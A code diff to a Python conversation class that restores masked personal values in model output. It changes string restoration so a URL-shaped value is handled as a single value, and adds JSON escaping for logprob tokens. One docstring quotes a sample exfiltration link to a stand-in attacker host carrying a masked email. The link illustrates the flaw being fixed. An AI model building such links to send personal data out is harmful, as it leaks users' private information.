@@ -328,9 +328,12 @@ class Conversation:
         return self.names.get(name, name)
 
     def restore_string(self, text: str) -> str:
-        """A string of an answer's event that may be a masked name or text."""
+        """A string of an answer's event or structured field that may be a masked name or
+        text, restored as one value (:meth:`restore_value`): a client may take the whole
+        string as a link (an annotation's or a citation's ``url``), so a URL in it runs to
+        its end -- ``https://evil.example/?q= [EMAIL_1]`` got the value after the space."""
         name = self.names.get(text)
-        return name if name is not None else self.restore(text)
+        return name if name is not None else self.restore_value(text, scan=True)
 
     def restore_arguments(self, arguments: str, *, truncated: bool = False) -> str:
         """Restore inside the JSON structure, so an original with quotes stays valid JSON;
@@ -431,13 +434,15 @@ class Conversation:
         out = dict(lp)
         for key in ("content", "refusal"):
             if isinstance(lp.get(key), list):
-                out[key] = self._merge_tokens(lp[key], truncated, chat=True)
+                # the content's tokens spell the answer's text: JSON-escaped like it
+                out[key] = self._merge_tokens(lp[key], truncated, chat=True,
+                                              for_json=key == "content" and self.json_output)
         return out
 
     def _merge_tokens(
-        self, entries: list[Any], truncated: bool, *, chat: bool
+        self, entries: list[Any], truncated: bool, *, chat: bool, for_json: bool = False
     ) -> list[dict[str, Any]]:
-        pipe = TextPipe(self, window=output_scan_window(self.core, self.tenant))
+        pipe = TextPipe(self, window=output_scan_window(self.core, self.tenant), json=for_json)
         out: list[dict[str, Any]] = []
         group: list[Any] = []
 
